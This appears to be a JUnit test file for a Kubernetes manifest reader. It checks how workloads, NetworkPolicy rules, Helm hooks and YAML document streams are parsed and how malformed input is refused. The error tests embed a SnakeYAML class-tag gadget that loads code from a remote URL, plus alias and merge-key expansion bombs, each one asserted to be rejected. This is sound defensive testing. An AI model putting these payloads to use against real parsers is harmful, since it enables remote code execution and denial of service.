package io.netpolguard.read;

import io.netpolguard.error.InputException;
import io.netpolguard.model.KubeObject;
import io.netpolguard.model.LabelSelector;
import io.netpolguard.model.LabelSelector.Operator;
import io.netpolguard.model.LabelSelector.Requirement;
import io.netpolguard.model.Manifest;
import io.netpolguard.model.NetworkPolicy;
import io.netpolguard.model.NetworkPolicy.IpBlock;
import io.netpolguard.model.NetworkPolicy.Peer;
import io.netpolguard.model.NetworkPolicy.Rule;
import io.netpolguard.model.PortRef;
import io.netpolguard.model.Protocol;
import io.netpolguard.model.Workload;
import io.netpolguard.model.WorkloadKind;
import io.netpolguard.testing.PolicyYaml;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Stream;

import static io.netpolguard.testing.Manifests.policy;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.params.provider.Arguments.arguments;

class ManifestReaderTest {

    private static Manifest read(String yaml) {
        return read(yaml.getBytes(StandardCharsets.UTF_8));
    }

    private static Manifest read(byte[] yaml) {
        return new ManifestReader(WorkloadKind.BUILT_IN).read(yaml);
    }

    private static Workload onlyWorkload(String yaml) {
        Manifest manifest = read(yaml);
        assertThat(manifest.workloads()).hasSize(1);
        return manifest.workloads().get(0);
    }

    private static NetworkPolicy onlyPolicy(PolicyYaml policy) {
        Manifest manifest = read(policy.body());
        assertThat(manifest.policies()).hasSize(1);
        return manifest.policies().get(0);
    }

    @Nested
    class Workloads {

        static Stream<Arguments> kinds() {
            return Stream.of(
                    arguments("v1", "ReplicationController", "spec.template.metadata.labels", """
                            apiVersion: v1
                            kind: ReplicationController
                            metadata: {name: w}
                            spec:
                              selector:
                                app: w
                              template:
                                metadata:
                                  labels: {app: w}
                            """, LabelSelector.of(Map.of("app", "w"))),
                    arguments("apps/v1", "Deployment", "spec.template.metadata.labels", """
                            apiVersion: apps/v1
                            kind: Deployment
                            metadata: {name: w}
                            spec:
                              selector:
                                matchLabels: {app: w}
                              template:
                                metadata:
                                  labels: {app: w}
                            """, LabelSelector.of(Map.of("app", "w"))),
                    arguments("extensions/v1beta1", "Deployment", "spec.template.metadata.labels", """
                            apiVersion: extensions/v1beta1
                            kind: Deployment
                            metadata: {name: w}
                            spec:
                              template:
                                metadata:
                                  labels: {app: w}
                            """, null),
                    arguments("apps/v1", "StatefulSet", "spec.template.metadata.labels", """
                            apiVersion: apps/v1
                            kind: StatefulSet
                            metadata: {name: w}
                            spec:
                              selector:
                                matchExpressions:
                                  - {key: app, operator: In, values: [w]}
                              template:
                                metadata:
                                  labels: {app: w}
                            """, new LabelSelector(Map.of(), List.of(new Requirement("app", Operator.IN, List.of("w"))))),
                    arguments("apps/v1", "DaemonSet", "spec.template.metadata.labels", """
                            apiVersion: apps/v1
                            kind: DaemonSet
                            metadata: {name: w}
                            spec:
                              selector: {matchLabels: {app: w}}
                              template:
                                metadata: {labels: {app: w}}
                            """, LabelSelector.of(Map.of("app", "w"))),
                    arguments("apps/v1", "ReplicaSet", "spec.template.metadata.labels", """
                            apiVersion: apps/v1
                            kind: ReplicaSet
                            metadata: {name: w}
                            spec:
                              selector: {matchLabels: {app: w}}
                              template:
                                metadata: {labels: {app: w}}
                            """, LabelSelector.of(Map.of("app", "w"))),
                    arguments("extensions/v1beta1", "ReplicaSet", "spec.template.metadata.labels", """
                            apiVersion: extensions/v1beta1
                            kind: ReplicaSet
                            metadata: {name: w}
                            spec:
                              selector: {matchLabels: {app: w}}
                              template:
                                metadata: {labels: {app: w}}
                            """, LabelSelector.of(Map.of("app", "w"))),
                    arguments("batch/v1", "Job", "spec.template.metadata.labels", """
                            apiVersion: batch/v1
                            kind: Job
                            metadata: {name: w}
                            spec:
                              template:
                                metadata:
                                  labels: {app: w}
                            """, null),
                    arguments("batch/v1", "CronJob", "spec.jobTemplate.spec.template.metadata.labels", """
                            apiVersion: batch/v1
                            kind: CronJob
                            metadata: {name: w}
                            spec:
                              schedule: "* * * * *"
                              jobTemplate:
                                metadata:
                                  labels: {not: pod}
                                spec:
                                  template:
                                    metadata:
                                      labels: {app: w}
                            """, null));
        }

        @ParameterizedTest(name = "{0} {1}")
        @MethodSource("kinds")
        void everyBuiltInKindYieldsItsPodTemplateLabelsAndSelector(String apiVersion, String kind, String labelsPath,
                                                                   String yaml, LabelSelector selector) {
            Workload w = onlyWorkload(yaml);
            assertThat(w.kind()).isEqualTo(kind);
            assertThat(w.object().apiVersion()).isEqualTo(apiVersion);
            assertThat(w.name()).isEqualTo("w");
            assertThat(w.podLabels()).containsExactly(Map.entry("app", "w"));
            assertThat(w.labelsPath()).isEqualTo(labelsPath);
            assertThat(w.selector()).isEqualTo(selector);
            assertThat(w.slot()).isNotNull();
        }

        @Test
        void aPodsOwnLabelsAreItsPodLabels() {
            Workload w = onlyWorkload("""
                    apiVersion: v1
                    kind: Pod
                    metadata:
                      name: p
                      namespace: team-a
                      labels:
                        app: p
                        tier: front
                    spec:
                      containers: [{name: c, image: nginx}]
                    """);
            assertThat(w.kind()).isEqualTo("Pod");
            assertThat(w.namespace()).isEqualTo("team-a");
            assertThat(w.podLabels()).containsExactly(Map.entry("app", "p"), Map.entry("tier", "front"));
            assertThat(w.labelsPath()).isEqualTo("metadata.labels");
            assertThat(w.selector()).isNull();
        }

        @Test
        void theObjectLabelsOfAWorkloadAreNotItsPodLabels() {
            Workload w = onlyWorkload("""
                    apiVersion: apps/v1
                    kind: Deployment
                    metadata:
                      name: web
                      labels: {app.kubernetes.io/instance: shop}
                    spec:
                      template:
                        metadata:
                          labels: {app: web}
                    """);
            assertThat(w.object().labels()).containsExactly(Map.entry("app.kubernetes.io/instance", "shop"));
            assertThat(w.podLabels()).containsExactly(Map.entry("app", "web"));
        }

        @Test
        void aPodTemplateWithoutLabelsHasNoPodLabels() {
            Workload w = onlyWorkload("""
                    apiVersion: batch/v1
                    kind: Job
                    metadata: {name: once}
                    spec:
                      template:
                        spec:
                          restartPolicy: Never
                    """);
            assertThat(w.podLabels()).isEmpty();
            assertThat(w.slot()).isNotNull();
        }

        @Test
        void aReplicationControllerWithoutSelectorHasNone() {
            Workload w = onlyWorkload("""
                    apiVersion: v1
                    kind: ReplicationController
                    metadata: {name: rc}
                    spec:
                      template:
                        metadata: {labels: {app: rc}}
                    """);
            assertThat(w.selector()).isNull();
        }

        @Test
        void kindsOfOtherGroupsOrUnknownKindsAreNotWorkloads() {
            Manifest manifest = read("""
                    apiVersion: v1
                    kind: Service
                    metadata: {name: web}
                    spec:
                      selector: {app: web}
                    ---
                    apiVersion: v1
                    kind: ConfigMap
                    metadata: {name: cfg}
                    data: {a: b}
                    ---
                    apiVersion: example.com/v1
                    kind: Deployment
                    metadata: {name: not-apps}
                    spec:
                      template:
                        metadata: {labels: {app: x}}
                    ---
                    apiVersion: batch/v1
                    kind: Deployment
                    metadata: {name: wrong-group}
                    spec:
                      template: {}
                    """);
            assertThat(manifest.workloads()).isEmpty();
            assertThat(manifest.policies()).isEmpty();
            assertThat(manifest.objects()).extracting(KubeObject::kind)
                    .containsExactly("Service", "ConfigMap", "Deployment", "Deployment");
        }

        @Test
        void theItemsOfAListAreReadAsObjectsOfTheirOwn() {
            Manifest manifest = read("""
                    apiVersion: v1
                    kind: List
                    items:
                      - apiVersion: apps/v1
                        kind: Deployment
                        metadata: {name: web}
                        spec:
                          template:
                            metadata: {labels: {app: web}}
                      - apiVersion: v1
                        kind: Service
                        metadata: {name: web}
                      - apiVersion: batch/v1
                        kind: Job
                        metadata: {name: migrate}
                        spec:
                          template:
                            metadata: {labels: {app: migrate}}
                    """);
            assertThat(manifest.objects()).extracting(KubeObject::kind)
                    .containsExactly("Deployment", "Service", "Job");
            assertThat(manifest.workloads()).extracting(Workload::name).containsExactly("web", "migrate");
            assertThat(manifest.workloads().get(1).podLabels()).containsEntry("app", "migrate");
        }

        @Test
        void aHookAnnotationGivesTheEventsAndTheWeight() {
            Workload w = onlyWorkload("""
                    apiVersion: batch/v1
                    kind: Job
                    metadata:
                      name: migrate
                      annotations:
                        helm.sh/hook: pre-install, pre-upgrade
                        helm.sh/hook-weight: "-5"
                        helm.sh/hook-delete-policy: before-hook-creation
                    spec:
                      template:
                        metadata: {labels: {app: migrate}}
                    """);
            assertThat(w.object().isHook()).isTrue();
            assertThat(w.object().hookEvents()).containsExactly("pre-install", "pre-upgrade");
            assertThat(w.object().hookWeight()).isEqualTo(-5);
        }

        @Test
        void aRegularManifestIsNoHookAndWeighsNothing() {
            Workload w = onlyWorkload("""
                    apiVersion: batch/v1
                    kind: Job
                    metadata: {name: once}
                    spec:
                      template: {}
                    """);
            assertThat(w.object().isHook()).isFalse();
            assertThat(w.object().hookEvents()).isEmpty();
            assertThat(w.object().hookWeight()).isZero();
        }

        @Test
        void aHookWeightThatIsNotANumberIsRefused() {
            assertThatThrownBy(() -> read("""
                    apiVersion: batch/v1
                    kind: Job
                    metadata:
                      name: once
                      annotations: {helm.sh/hook: post-install, helm.sh/hook-weight: heavy}
                    spec:
                      template: {}
                    """)).isInstanceOf(InputException.class)
                    .hasMessageContaining("Document 1, line 1")
                    .hasMessageContaining("helm.sh/hook-weight")
                    .hasMessageContaining("heavy");
        }

        @Test
        void aConfiguredKindIsAWorkloadWithItsOwnTemplateAndSelector() {
            WorkloadKind rollout = new WorkloadKind(Set.of("argoproj.io"), "Rollout", "spec.template", "spec.selector");
            List<WorkloadKind> kinds = new ArrayList<>(WorkloadKind.BUILT_IN);
            kinds.add(rollout);
            String yaml = """
                    apiVersion: argoproj.io/v1alpha1
                    kind: Rollout
                    metadata: {name: canary}
                    spec:
                      selector:
                        matchLabels: {app: canary}
                      template:
                        metadata:
                          labels: {app: canary}
                    """;
            Manifest manifest = new ManifestReader(kinds).read(yaml.getBytes(StandardCharsets.UTF_8));
            assertThat(manifest.workloads()).hasSize(1);
            Workload w = manifest.workloads().get(0);
            assertThat(w.kind()).isEqualTo("Rollout");
            assertThat(w.podLabels()).containsExactly(Map.entry("app", "canary"));
            assertThat(w.labelsPath()).isEqualTo("spec.template.metadata.labels");
            assertThat(w.selector()).isEqualTo(LabelSelector.of(Map.of("app", "canary")));

            assertThat(read(yaml).workloads()).as("without the configured kind").isEmpty();
        }

        @Test
        void anEmptyNamespaceMeansTheReleaseNamespace() {
            Workload w = onlyWorkload("""
                    apiVersion: v1
                    kind: Pod
                    metadata: {name: p, namespace: ""}
                    """);
            assertThat(w.namespace()).isNull();
        }

        @Test
        void mergeKeysInPodLabelsAreHonoured() {
            Workload w = onlyWorkload("""
                    apiVersion: apps/v1
                    kind: Deployment
                    metadata:
                      name: web
                      annotations: &common {team: shop}
                    spec:
                      template:
                        metadata:
                          labels:
                            <<: *common
                            app: web
                    """);
            assertThat(w.podLabels()).containsEntry("team", "shop").containsEntry("app", "web");
        }
    }

    @Nested
    class NetworkPolicies {

        @Test
        void explicitPolicyTypesDecideTheIsolatedDirections() {
            NetworkPolicy p = onlyPolicy(policy("np").selects("app", "web").types("Egress").spec("""
                    ingress:
                      - {}
                    """));
            assertThat(p.ingress()).isFalse();
            assertThat(p.egress()).isTrue();
            assertThat(p.podSelector()).isEqualTo(LabelSelector.of(Map.of("app", "web")));
        }

        @Test
        void bothExplicitPolicyTypesIsolateBothDirections() {
            NetworkPolicy p = onlyPolicy(policy("np").selectsAll().types("Ingress", "Egress"));
            assertThat(p.ingress()).isTrue();
            assertThat(p.egress()).isTrue();
        }

        @Test
        void withoutPolicyTypesIngressIsAlwaysIsolatedAndEgressOnlyWithEgressRules() {
            NetworkPolicy ingressOnly = onlyPolicy(policy("np").selectsAll());
            assertThat(ingressOnly.ingress()).isTrue();
            assertThat(ingressOnly.egress()).isFalse();

            NetworkPolicy emptyEgress = onlyPolicy(policy("np").selectsAll().spec("egress: []"));
            assertThat(emptyEgress.ingress()).isTrue();
            assertThat(emptyEgress.egress()).isFalse();

            NetworkPolicy withEgress = onlyPolicy(policy("np").selectsAll().spec("""
                    egress:
                      - to: [{ipBlock: {cidr: 10.0.0.0/8}}]
                    """));
            assertThat(withEgress.ingress()).isTrue();
            assertThat(withEgress.egress()).isTrue();
        }

        @Test
        void anAbsentPodSelectorSelectsEveryPod() {
            NetworkPolicy p = onlyPolicy(policy("np").types("Ingress"));
            assertThat(p.podSelector()).isEqualTo(LabelSelector.EVERYTHING);
            assertThat(p.podSelector().matches(Map.of("any", "pod"))).isTrue();
        }

        @Test
        void rulesAreReadWithTheirPeersAndPortsAndARuleWithoutFromHasNoPeers() {
            NetworkPolicy p = onlyPolicy(policy("np").namespace("shop").selects("app", "db").spec("""
                    ingress:
                      - ports: [{port: 5432}]
                      - from:
                          - ipBlock: {cidr: 192.168.0.0/16, except: [192.168.1.0/24]}
                          - namespaceSelector: {matchLabels: {team: a}}
                            podSelector: {matchLabels: {app: web}}
                          - podSelector: {}
                    egress:
                      - to:
                          - namespaceSelector: {}
                    """));
            assertThat(p.object().namespace()).isEqualTo("shop");
            assertThat(p.ingressRules()).containsExactly(
                    new Rule(List.of(), List.of(new NetworkPolicy.Port(Protocol.TCP, PortRef.number(5432), 0))),
                    new Rule(List.of(
                            new Peer(null, null, new IpBlock("192.168.0.0/16", List.of("192.168.1.0/24"))),
                            new Peer(LabelSelector.of(Map.of("app", "web")), LabelSelector.of(Map.of("team", "a")), null),
                            new Peer(LabelSelector.EVERYTHING, null, null)), List.of()));
            assertThat(p.egressRules()).containsExactly(
                    new Rule(List.of(new Peer(null, LabelSelector.EVERYTHING, null)), List.of()));
            assertThat(p.egress()).isTrue();
        }

        @Test
        void anEmptyFromListAdmitsAnywhereToo() {
            NetworkPolicy p = onlyPolicy(policy("np").selectsAll().spec("""
                    ingress:
                      - from: []
                    """));
            assertThat(p.ingressRules()).singleElement().satisfies(rule -> assertThat(rule.anyPeer()).isTrue());
        }

        @Test
        void matchExpressionsOfEveryOperatorAreRead() {
            NetworkPolicy p = onlyPolicy(policy("np").spec("""
                    podSelector:
                      matchLabels: {app: web}
                      matchExpressions:
                        - {key: tier, operator: In, values: [a, b]}
                        - {key: env, operator: NotIn, values: [dev]}
                        - {key: team, operator: Exists}
                        - {key: legacy, operator: DoesNotExist}
                    """));
            assertThat(p.podSelector()).isEqualTo(new LabelSelector(Map.of("app", "web"), List.of(
                    new Requirement("tier", Operator.IN, List.of("a", "b")),
                    new Requirement("env", Operator.NOT_IN, List.of("dev")),
                    new Requirement("team", Operator.EXISTS, List.of()),
                    new Requirement("legacy", Operator.DOES_NOT_EXIST, List.of()))));
        }

        @Test
        void aPolicyGeneratedByAnEarlierRunIsRecognised() {
            NetworkPolicy p = onlyPolicy(policy("shop-netpol-guard").label("netpol-guard.io/generated", "true")
                    .selectsAll());
            assertThat(p.isGenerated()).isTrue();
        }

        @Test
        void aNetworkPolicyOfAnotherGroupIsIgnored() {
            Manifest manifest = read("""
                    apiVersion: crd.projectcalico.org/v1
                    kind: NetworkPolicy
                    metadata: {name: calico}
                    spec: {selector: all()}
                    """);
            assertThat(manifest.policies()).isEmpty();
            assertThat(manifest.objects()).hasSize(1);
        }
    }

    @Nested
    class StreamShapes {

        private static final String POD = """
                apiVersion: v1
                kind: Pod
                metadata:
                  name: p
                  labels: {app: p}
                """;

        @Test
        void commentOnlyAndEmptyDocumentsHoldNoObject() {
            Manifest manifest = read("---\n# Source: chart/templates/nothing.yaml\n# all off\n---\n---\n" + POD + "---\n");
            assertThat(manifest.documents()).hasSize(4);
            assertThat(manifest.objects()).hasSize(1);
            assertThat(manifest.workloads()).extracting(Workload::name).containsExactly("p");
            assertThat(manifest.workloads().get(0).object().document().number()).isEqualTo(3);
        }

        @Test
        void aNullDocumentHoldsNoObject() {
            Manifest manifest = read("---\nnull\n---\n~\n---\n" + POD);
            assertThat(manifest.objects()).hasSize(1);
        }

        @Test
        void crlfLineEndsAreRead() {
            Manifest manifest = read(("---\n# Source: c/t/pod.yaml\n" + POD + "---\n" + POD.replace("name: p", "name: q"))
                    .replace("\n", "\r\n"));
            assertThat(manifest.workloads()).extracting(Workload::name).containsExactly("p", "q");
            assertThat(manifest.workloads().get(0).podLabels()).containsExactly(Map.entry("app", "p"));
            assertThat(manifest.workloads().get(0).object().document().source()).isEqualTo("c/t/pod.yaml");
        }

        @Test
        void aLeadingByteOrderMarkIsSkipped() {
            Manifest manifest = read("\uFEFF" + POD);
            assertThat(manifest.workloads()).hasSize(1);
            assertThat(manifest.objects().get(0).apiVersion()).isEqualTo("v1");
            assertThat(manifest.workloads().get(0).podLabels()).containsExactly(Map.entry("app", "p"));
        }

        @Test
        void aLeadingByteOrderMarkBeforeTheSeparatorKeepsTheSource() {
            Manifest manifest = read("\uFEFF---\n# Source: chart/templates/pod.yaml\n" + POD);
            assertThat(manifest.objects().get(0).document().source()).isEqualTo("chart/templates/pod.yaml");
        }

        @Test
        void aLeadingByteOrderMarkBeforeTheSourceCommentKeepsTheSource() {
            Manifest manifest = read("\uFEFF# Source: chart/templates/pod.yaml\n" + POD);
            assertThat(manifest.objects().get(0).document().source()).isEqualTo("chart/templates/pod.yaml");
        }

        @Test
        void theSourceCommentNamesTheTemplateOfEachDocument() {
            Manifest manifest = read("---\n# Source: shop/templates/a.yaml\n" + POD
                    + "---\n# Source: shop/templates/b.yaml\n" + POD.replace("name: p", "name: q")
                    + "---\n" + POD.replace("name: p", "name: r"));
            assertThat(manifest.objects()).extracting(o -> o.document().source())
                    .containsExactly("shop/templates/a.yaml", "shop/templates/b.yaml", null);
        }

        @Test
        void aSourceCommentAfterTheFirstKeyIsNotTheDocumentsSource() {
            Manifest manifest = read("apiVersion: v1\n# Source: late.yaml\nkind: Pod\nmetadata: {name: p}\n");
            assertThat(manifest.objects().get(0).document().source()).isNull();
        }
    }

    @Nested
    class InputErrors {

        private static final String POD = """
                ---
                apiVersion: v1
                kind: Pod
                metadata: {name: ok}
                """;

        private void refused(String yaml, String... fragments) {
            refused(yaml.getBytes(StandardCharsets.UTF_8), fragments);
        }

        private void refused(byte[] yaml, String... fragments) {
            assertThatThrownBy(() -> read(yaml))
                    .isInstanceOf(InputException.class)
                    .satisfies(e -> assertThat(e.getMessage()).contains(fragments));
        }

        @Test
        void malformedYamlNamesTheDocumentAndTheLine() {
            refused(POD + "---\napiVersion: v1\nkind: Pod\nmetadata: {name: [x}\n",
                    "Document 2, line 8", "is not valid YAML");
        }

        @Test
        void badIndentationNamesTheDocumentAndTheLine() {
            refused(POD + "---\napiVersion: v1\nkind: Pod\nmetadata:\n  name: x\n bad: y\n",
                    "Document 2, line 10", "is not valid YAML");
        }

        @Test
        void theLineCountsFromTheStartOfTheStreamAndNamesTheSource() {
            refused(POD + "---\n# Source: shop/templates/bad.yaml\napiVersion: v1\nkind: [Pod\n",
                    "Document 2 (shop/templates/bad.yaml), line", "is not valid YAML");
        }

        @Test
        void aDocumentThatIsAListIsRefused() {
            refused(POD + "---\n- apiVersion: v1\n  kind: Pod\n", "Document 2, line 6", "is not a mapping");
        }

        @Test
        void aDocumentThatIsAScalarIsRefused() {
            refused(POD + "---\njust text\n", "Document 2, line 6", "is not a mapping");
        }

        @Test
        void aWorkloadWithoutApiVersionIsRefused() {
            refused(POD + "---\nkind: Deployment\nmetadata: {name: web}\n",
                    "Document 2, line 6", "Deployment without apiVersion");
        }

        @Test
        void anObjectWithoutKindIsRefused() {
            refused(POD + "---\napiVersion: v1\nmetadata: {name: x}\n", "Document 2, line 6", "has no kind");
        }

        @Test
        void aListItemWithoutKindIsRefusedAtItsLine() {
            refused("apiVersion: v1\nkind: List\nitems:\n  - apiVersion: v1\n    metadata: {name: x}\n",
                    "Document 1, line 4", "has no kind");
        }

        @Test
        void aWorkloadWithoutNameIsRefused() {
            refused(POD + "---\napiVersion: apps/v1\nkind: Deployment\nspec:\n  template: {}\n",
                    "Document 2, line 6", "without metadata.name");
        }

        @Test
        void aWorkloadWithoutPodTemplateIsRefused() {
            refused(POD + "---\napiVersion: apps/v1\nkind: Deployment\nmetadata: {name: web}\nspec: {}\n",
                    "Document 2, line 6", "without a pod template at spec.template");
        }

        @Test
        void podLabelsThatAreNotAMappingOfStringsAreRefused() {
            refused(POD + "---\napiVersion: v1\nkind: Pod\nmetadata:\n  name: x\n  labels: [a, b]\n",
                    "Document 2, line 10", "metadata.labels must be a mapping of strings");
        }

        @Test
        void aCustomTagIsRefused() {
            refused(POD + "---\napiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\ndata:\n  a: !foo bar\n",
                    "Document 2, line 10", "!foo");
        }

        @Test
        void aJavaClassTagIsRefusedWithoutBeingInstantiated() {
            refused(POD + "---\napiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\n"
                            + "data: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]\n",
                    "Document 2, line 9", "tag");
        }

        @Test
        void anAliasBombIsRefused() {
            String bomb = """
                    apiVersion: v1
                    kind: ConfigMap
                    metadata: {name: lol}
                    data:
                      a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
                      b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
                      c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
                      d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
                      e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
                      f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
                      g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
                      h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
                      i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]
                      j: &j [*i,*i,*i,*i,*i,*i,*i,*i,*i]
                      k: &k [*j,*j,*j,*j,*j,*j,*j,*j,*j]
                      l: &l [*k,*k,*k,*k,*k,*k,*k,*k,*k]
                      m: &m [*l,*l,*l,*l,*l,*l,*l,*l,*l]
                    """;
            refused(POD + "---\n" + bomb, "Document 2, starting at line 5", "aliases");
        }

        @Test
        void aMergeKeyBombInPodLabelsIsRefusedQuickly() {
            String bomb = """
                    apiVersion: v1
                    kind: Pod
                    x-bomb:
                      a: &a {x: "1"}
                      b: &b {<<: [*a,*a,*a,*a,*a,*a,*a,*a,*a]}
                      c: &c {<<: [*b,*b,*b,*b,*b,*b,*b,*b,*b]}
                      d: &d {<<: [*c,*c,*c,*c,*c,*c,*c,*c,*c]}
                      e: &e {<<: [*d,*d,*d,*d,*d,*d,*d,*d,*d]}
                      f: &f {<<: [*e,*e,*e,*e,*e,*e,*e,*e,*e]}
                      g: &g {<<: [*f,*f,*f,*f,*f,*f,*f,*f,*f]}
                      h: &h {<<: [*g,*g,*g,*g,*g,*g,*g,*g,*g]}
                      i: &i {<<: [*h,*h,*h,*h,*h,*h,*h,*h,*h]}
                    metadata:
                      name: lol
                      labels:
                        <<: *i
                        app: lol
                    """;
            long start = System.nanoTime();
            refused(bomb, "Document 1", "nested merge keys");
            assertThat(Duration.ofNanos(System.nanoTime() - start)).isLessThan(Duration.ofSeconds(20));
        }

        @Test
        void anEmptyStreamIsRefused() {
            refused("", "holds no Kubernetes object");
        }

        @Test
        void aStreamOfCommentsAndSeparatorsOnlyIsRefused() {
            refused("---\n# Source: chart/templates/off.yaml\n---\n", "holds no Kubernetes object");
        }

        @Test
        void invalidUtf8IsRefusedNamingTheDocumentAndItsLine() {
            byte[] head = (POD + "---\napiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\ndata: {a: \"")
                    .getBytes(StandardCharsets.UTF_8);
            byte[] bytes = new byte[head.length + 3];
            System.arraycopy(head, 0, bytes, 0, head.length);
            bytes[head.length] = (byte) 0xC3;
            bytes[head.length + 1] = (byte) 0x28;
            bytes[head.length + 2] = '\n';
            refused(bytes, "Document 2, starting at line 5", "not UTF-8");
        }

        @Test
        void duplicateKeysAreRefused() {
            refused(POD + "---\napiVersion: v1\nkind: Pod\nmetadata:\n  name: a\n  name: b\n",
                    "Document 2", "line", "name");
        }

        @Test
        void duplicateLabelKeysAreRefused() {
            refused(POD + "---\napiVersion: v1\nkind: Pod\nmetadata:\n  name: a\n  labels: {app: x, app: y}\n",
                    "Document 2", "line", "app");
        }

        @Test
        void anUnknownMatchExpressionsOperatorIsRefused() {
            refused(POD + """
                    ---
                    apiVersion: networking.k8s.io/v1
                    kind: NetworkPolicy
                    metadata: {name: np}
                    spec:
                      podSelector:
                        matchExpressions:
                          - {key: app, operator: Equals, values: [web]}
                    """, "Document 2, line 12", "operator Equals");
        }

        @Test
        void inWithoutValuesIsRefused() {
            refused(POD + """
                    ---
                    apiVersion: networking.k8s.io/v1
                    kind: NetworkPolicy
                    metadata: {name: np}
                    spec:
                      podSelector:
                        matchExpressions:
                          - {key: app, operator: In}
                    """, "Document 2, line 12", "needs at least one value");
        }

        @Test
        void existsWithValuesIsRefused() {
            refused(POD + """
                    ---
                    apiVersion: networking.k8s.io/v1
                    kind: NetworkPolicy
                    metadata: {name: np}
                    spec:
                      podSelector:
                        matchExpressions:
                          - {key: app, operator: Exists, values: [web]}
                    """, "Document 2, line 12", "takes no values");
        }

        @Test
        void everyRefusalSaysWhatToDoNext() {
            assertThatThrownBy(() -> read(POD + "---\napiVersion: v1\nmetadata: {name: x}\n"))
                    .isInstanceOfSatisfying(InputException.class, e -> assertThat(e.suggestion()).isNotBlank());
        }
    }
}
